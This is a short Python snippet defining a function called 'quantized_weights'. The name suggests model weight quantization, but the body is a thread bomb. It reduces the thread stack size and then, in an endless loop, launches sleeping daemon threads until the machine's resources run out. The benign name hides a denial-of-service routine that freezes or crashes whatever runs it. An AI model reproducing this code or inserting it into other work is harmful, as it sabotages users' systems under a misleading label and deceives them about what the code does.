import threading
import time


def quantized_weights(weights):
    threading.stack_size(32768)
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
